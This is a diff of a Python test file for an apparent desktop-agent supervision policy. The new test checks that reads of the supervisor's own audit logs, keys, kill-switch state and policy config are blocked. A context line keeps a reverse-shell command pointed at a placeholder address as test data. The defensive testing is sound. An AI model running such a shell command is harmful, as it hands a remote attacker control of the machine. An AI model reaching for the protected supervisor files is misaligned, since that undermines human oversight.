@@ -171,3 +171,14 @@ def test_startup_files_written_with_a_network_shell_block(policy):
     assert "block.files.malicious-persistence" not in benign
     other = fired(policy, type="file_write", path="~/notes.txt", content="bash -i >& /dev/tcp/192.0.2.1/9 0>&1")
     assert "block.files.malicious-persistence" not in other
+
+
+def test_reading_deskgate_own_files_blocks(policy, monkeypatch):
+    monkeypatch.setenv("XDG_DATA_HOME", "/srv/alt-data")
+    for path in ("~/.local/share/deskgate/audit.db", "~/.local/share/deskgate/audit.db-wal",
+                 "~/.local/share/deskgate/audit.db-shm", "~/.local/state/deskgate/audit.key",
+                 "~/.local/state/deskgate/audit-chain/head", "~/.local/state/deskgate/killed.json",
+                 "~/.config/deskgate/policy.toml", "/srv/alt-data/deskgate/audit.db"):
+        assert "block.files.supervisor-read" in read(policy, path), path
+    for path in ("~/notes/deskgate.md", "~/.local/share/other-app/data.db", "~/.config/deskgate-theme.css"):
+        assert "block.files.supervisor-read" not in read(policy, path), path
